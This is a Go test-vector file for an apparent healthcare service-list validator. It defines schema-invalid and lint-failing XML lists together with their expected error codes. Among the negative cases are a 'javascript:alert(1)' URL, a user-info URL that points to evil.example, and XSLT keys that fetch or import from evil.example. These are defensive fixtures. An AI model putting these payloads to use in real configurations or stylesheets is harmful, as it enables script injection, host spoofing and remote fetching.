package vectors

import (
	"time"

	"github.com/beevik/etree"

	"github.com/ehealth-bcp/ehealth-bcp/core/bcperr"
	"github.com/ehealth-bcp/ehealth-bcp/core/drill"
)

// schema holds well signed lists that are no ServiceList of either version.
func schema(k *kit) []scenario {
	invalid := func(name, source, comment string, version int, edit func(root *etree.Element)) scenario {
		return refused("schema/"+name, bcperr.SchemaInvalid, source, comment, k.beforeBy(k.pki.Signer, version, edit))
	}
	const v1, v2 = "BCP XSD 1.0", "BCP XSD 2.0"
	return []scenario{
		refused("schema/root-name", bcperr.SchemaInvalid, v1+", ServiceList", "another root element",
			k.after(func(doc *etree.Document) { doc.Root().Tag = "ServiceLists" })),
		invalid("version-3", v2+", targetNamespace", "a version that we do not know", 1,
			func(root *etree.Element) { set(root, "xmlns", "urn:be:fgov:ehealth:bcp:protocol:v3") }),
		invalid("no-service", v1+", ServiceList", "a list without services", 1,
			func(root *etree.Element) { remove(nth(root, "./Service", 1)); remove(nth(root, "./Service", 0)) }),
		invalid("environment-missing", v1+", ServiceList", "no Environment", 1, func(root *etree.Element) { root.RemoveAttr("Environment") }),
		invalid("instant-missing", v1+", ServiceList", "no IssueInstant", 1, func(root *etree.Element) { root.RemoveAttr("IssueInstant") }),
		invalid("instant-malformed", "XSD 1.0 Part 2 §3.2.7", "month 13", 1, func(root *etree.Element) { set(root, "IssueInstant", "2026-13-01T00:00:00Z") }),
		invalid("instant-date-only", "XSD 1.0 Part 2 §3.2.7", "a date without a time", 1, func(root *etree.Element) { set(root, "IssueInstant", "2026-05-20") }),
		invalid("service-without-id", v1+", ServiceType", "a service without an Id", 1, func(root *etree.Element) { nth(root, "./Service", 0).RemoveAttr("Id") }),
		invalid("service-without-name", v1+", ServiceType", "a service without a Name", 1, func(root *etree.Element) { nth(root, "./Service", 0).RemoveAttr("Name") }),
		invalid("service-without-endpoint", v1+", ServiceType", "a service without endpoints", 1, func(root *etree.Element) { nth(root, "./Service", 0).Child = nil }),
		invalid("status-missing", v1+", StatusType", "an endpoint without a Status", 1, func(root *etree.Element) { nth(root, "./Service/Endpoint", 0).RemoveAttr("Status") }),
		invalid("status-lower-case", v1+", StatusType", "active", 1, func(root *etree.Element) { set(nth(root, "./Service/Endpoint", 0), "Status", "active") }),
		invalid("order-missing", v1+", Endpoint", "an endpoint without an Order", 1, func(root *etree.Element) { nth(root, "./Service/Endpoint", 0).RemoveAttr("Order") }),
		invalid("order-no-integer", "XSD 1.0 Part 2 §3.3.13", "an Order with two signs", 1, func(root *etree.Element) { set(nth(root, "./Service/Endpoint", 0), "Order", "+-1") }),
		invalid("element-in-endpoint", v1+", Endpoint", "an element inside an address", 1,
			func(root *etree.Element) {
				nth(root, "./Service/Endpoint", 0).CreateElement("b").SetText(".evil.example")
			}),
		invalid("element-unknown", v1+", ServiceList", "an element that the schema does not have", 1, func(root *etree.Element) { root.InsertChildAt(0, etree.NewElement("Note")) }),
		invalid("text-between", v1+", ServiceType", "text between the endpoints", 1, func(root *etree.Element) { nth(root, "./Service", 0).CreateText("x") }),
		invalid("attribute-other-namespace", v1+", Endpoint", "a Status of another namespace beside the real one", 1,
			func(root *etree.Element) {
				e := nth(root, "./Service/Endpoint", 0)
				set(e, "xmlns:x", "urn:x")
				set(e, "x:Status", "INACTIVE")
			}),
		invalid("v1-endpoint-list", v1+", ServiceType", "version 2's EndpointList in version 1", 1, func(root *etree.Element) { wrap(nth(root, "./Service/Endpoint", 0), "EndpointList") }),
		invalid("v2-bare-endpoint", v2+", ServiceType", "version 1's Endpoint in version 2", 2,
			func(root *etree.Element) {
				s := nth(root, "./Service", 0)
				endpoints := find(s, "./EndpointList").ChildElements()
				s.Child = nil
				for _, e := range endpoints {
					s.AddChild(e)
				}
			}),
		invalid("v1-cache", v1+", ServiceType", "version 2's Cache in version 1", 1,
			func(root *etree.Element) {
				set(nth(root, "./Service", 0).CreateElement("Cache"), "Strategy", "CACHE_FIRST")
			}),
		invalid("v2-cache-first", v2+", ServiceType", "a Cache before the EndpointList", 2,
			func(root *etree.Element) { insertFirst(nth(root, "./Service", 0), etree.NewElement("Cache")) }),
	}
}

// lint holds lists with one bad service: the list stays, the finding names the service.
func lint(k *kit) []scenario {
	found := func(name string, code bcperr.Code, source, comment string, edit func(*drill.List)) scenario {
		return accepted("lint/"+name, source, comment, k.listed(edit), []bcperr.Code{code})
	}
	url := func(name, comment, text string) scenario {
		return found("url-"+name, bcperr.URLInvalid, "DESIGN §4", comment, func(l *drill.List) { l.Services[0].Endpoints[1].URL = text })
	}
	cached := func(name string, code bcperr.Code, comment string, edit func(root, cache *etree.Element)) scenario {
		d, err := drill.NewDraft(withCache(), k.pki.Signer, time.Time{})
		must(err)
		edit(d.Doc.Root(), find(d.Doc.Root(), "./Service/Cache"))
		must(d.Seal())
		return accepted("lint/"+name, "BCP XSD 2.0, CacheType", comment, d.Bytes(), []bcperr.Code{code})
	}
	key := func(name string, code bcperr.Code, comment, stylesheet string) scenario {
		return found(name, code, "XSLT 1.0", comment, func(l *drill.List) {
			l.Services[0].Cache = drill.SampleCache("CACHE_FIRST", "PT8H")
			l.Services[0].Cache.Key.Text = stylesheet
		})
	}
	const xslOpen = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:output method="text"/><xsl:template match="/">`
	const xslClose = `</xsl:template></xsl:stylesheet>`
	return []scenario{
		found("order-negative", bcperr.OrderInvalid, "DESIGN §4", "an Order below zero", func(l *drill.List) { l.Services[0].Endpoints[1].Order = -1 }),
		found("order-twice", bcperr.OrderDuplicate, "DESIGN §4", "two endpoints of the same Order", func(l *drill.List) { l.Services[0].Endpoints[1].Order = 0 }),
		url("http", "plain http", "http://services.bcp2.example/Kgss/v1"),
		url("javascript", "a script", "javascript:alert(1)"),
		url("user", "a user name before the host", "https://services.bcp.example@evil.example/Kgss/v1"),
		url("relative", "no scheme and no host", "/Kgss/v1"),
		url("empty", "no address", ""),
		url("blank", "a blank inside", "https://services.bcp2.example/Kgss /v1"),
		found("url-shared", bcperr.URLShared, "DESIGN §4", "two services at one address", func(l *drill.List) { l.Services[1].Endpoints[0].URL = l.Services[0].Endpoints[0].URL }),
		accepted("lint/service-twice", "DESIGN §4", "two services of one Id: both are told of, for neither can be meant",
			k.listed(func(l *drill.List) { l.Services[1].ID = l.Services[0].ID }), []bcperr.Code{bcperr.ServiceDuplicate, bcperr.ServiceDuplicate}),
		found("service-id-quirk", bcperr.ServiceIDQuirk, "DESIGN §2", "an Id that ends in an apostrophe, as a genuine one does", func(l *drill.List) { l.Services[1].ID += "'" }),
		cached("cache-strategy", bcperr.CacheInvalid, "a strategy that we do not know", func(_, cache *etree.Element) { set(cache, "Strategy", "CACHE_ONLY") }),
		cached("cache-key-missing", bcperr.CacheInvalid, "no Key", func(_, cache *etree.Element) { remove(find(cache, "./Key")) }),
		cached("cache-transform", bcperr.CacheInvalid, "a transform that is not xslt", func(_, cache *etree.Element) { set(find(cache, "./Key"), "Tranform", "xpath") }),
		cached("cache-transform-spelling", bcperr.CacheInvalid, "the attribute spelled right, which the schema does not know",
			func(_, cache *etree.Element) {
				find(cache, "./Key").RemoveAttr("Tranform")
				set(find(cache, "./Key"), "Transform", "xslt")
			}),
		cached("cache-inline", bcperr.CacheInvalid, "Inline is no xs:boolean", func(_, cache *etree.Element) { set(find(cache, "./Key"), "Inline", "yes") }),
		cached("cache-twice", bcperr.CacheInvalid, "two caches", func(_, cache *etree.Element) { cache.Parent().AddChild(cache.Copy()) }),
		cached("expiry-malformed", bcperr.ExpiryInvalid, "a Duration that is no xs:duration", func(_, cache *etree.Element) { set(find(cache, "./Expiry"), "Duration", "8H") }),
		cached("expiry-zero", bcperr.ExpiryInvalid, "a time to live of nothing", func(_, cache *etree.Element) { set(find(cache, "./Expiry"), "Duration", "PT0S") }),
		cached("expiry-negative", bcperr.ExpiryInvalid, "a negative time to live", func(_, cache *etree.Element) { set(find(cache, "./Expiry"), "Duration", "-PT8H") }),
		cached("expiry-missing", bcperr.ExpiryInvalid, "a ttl without a Duration", func(_, cache *etree.Element) { find(cache, "./Expiry").RemoveAttr("Duration") }),
		cached("key-not-signed", bcperr.KeyNotSigned, "a stylesheet by its location: its content is not covered",
			func(_, cache *etree.Element) {
				set(find(cache, "./Key"), "Inline", "false")
				find(cache, "./Key").SetText("https://services.bcp.example/key.xslt")
			}),
		key("key-not-xml", bcperr.XSLTInvalid, "a stylesheet that is not XML", "<xsl:stylesheet"),
		key("key-unknown-instruction", bcperr.XSLTInvalid, "an instruction that XSLT does not have", xslOpen+`<xsl:print select="."/>`+xslClose),
		key("key-document", bcperr.XSLTForbidden, "a stylesheet that reads another document", xslOpen+`<xsl:value-of select="document('https://evil.example/')"/><xsl:value-of select="."/>`+xslClose),
		key("key-import", bcperr.XSLTForbidden, "a stylesheet that imports another",
			`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="https://evil.example/x.xsl"/></xsl:stylesheet>`),
		key("key-constant", bcperr.KeyConstant, "one key for every request", xslOpen+`<xsl:text>key</xsl:text>`+xslClose),
	}
}

// withCache is the list of version 2 whose first service has a cache.
func withCache() drill.List {
	l := list(2)
	l.Services[0].Cache = drill.SampleCache("ENDPOINT_FIRST", "PT8H")
	return l
}
